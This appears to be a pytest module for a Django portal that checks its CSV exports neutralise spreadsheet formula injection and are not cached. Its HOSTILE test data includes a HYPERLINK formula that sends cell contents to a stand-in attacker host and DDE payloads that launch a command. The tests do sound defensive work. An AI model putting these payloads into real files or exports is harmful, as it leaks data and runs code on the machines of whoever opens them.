"""Every CSV export neutralises cells a spreadsheet would run as a formula.

Each export is filled with people whose typed fields start with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return, downloaded, parsed back with Python's ``csv`` and every cell checked.
"""

import csv
import io

import pytest
from django.urls import reverse

from tests.events.factories import EventFactory, RegistrationFactory, SessionFactory
from tests.factories import ParticipationFactory, RoleFactory, UserFactory, WorkingGroupFactory

from .url_table import pattern_keys

pytestmark = pytest.mark.django_db
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "=": '=HYPERLINK("https://evil.example.org/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _hostile_people():
    people = []
    for index, (start, value) in enumerate(HOSTILE.items()):
        people.append(
            UserFactory(
                email=f"{'=' if start == '=' else ''}p{index}@example.org",
                profile={"display_name": value[:100], "affiliation": value},
            )
        )
    return people


def _parse(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows[1:] for cell in row if cell.startswith(DANGEROUS_STARTS)]


def _members_csv(client):
    group = WorkingGroupFactory()
    chair = ParticipationFactory(role=RoleFactory(slug="chair"), working_group=group).user
    for person in _hostile_people():
        ParticipationFactory(user=person, role=RoleFactory(slug="participant"), working_group=group)
    client.force_login(chair)
    return client.get(reverse("working_groups:members_csv", kwargs={"slug": group.slug}))


def _registrations_csv(client):
    from django.contrib.auth.models import Group

    from roles.rules import ORGANIZERS_GROUP

    event = EventFactory()
    session = SessionFactory(event=event, title=HOSTILE["@"], capacity=50)
    for person in _hostile_people():
        RegistrationFactory(event=event, user=person)
        RegistrationFactory(event=event, session=session, user=person)
    organizer = UserFactory(is_staff=True)
    organizer.groups.add(Group.objects.get_or_create(name=ORGANIZERS_GROUP)[0])
    client.force_login(organizer)
    return client.get(reverse("events:export", kwargs={"slug": event.slug}))


# One entry per CSV export of the portal: (URL pattern, a function that fills it and downloads it).
EXPORTS = {
    "working_groups:members_csv": _members_csv,
    "events:export": _registrations_csv,
}


def test_every_csv_export_is_listed_here():
    """A new export (a pattern whose route ends in .csv, or named *csv/*export) must join EXPORTS."""
    from django.urls import get_resolver

    csv_like = set()

    def walk(resolver, namespaces=(), prefix=""):
        from django.urls import URLPattern, URLResolver

        for pattern in resolver.url_patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(pattern, namespaces + ((pattern.namespace,) if pattern.namespace else ()), route)
            elif isinstance(pattern, URLPattern) and pattern.name and ".csv" in route:
                csv_like.add(":".join((*namespaces, pattern.name)))

    walk(get_resolver())
    assert csv_like <= pattern_keys()
    assert csv_like - set(EXPORTS) == set()


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_csv_export_neutralises_formula_cells(name, client):
    rows = _parse(EXPORTS[name](client))
    assert len(rows) > len(HOSTILE)  # the hostile people are all there
    assert _formula_cells(rows) == []
    # each value comes back whole, behind one apostrophe, so a person reading the sheet sees what was typed
    cells = {cell for row in rows[1:] for cell in row}
    for value in HOSTILE.values():
        assert "'" + value in cells, repr(value)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_csv_export_is_not_stored_by_caches(name, client):
    response = EXPORTS[name](client)
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
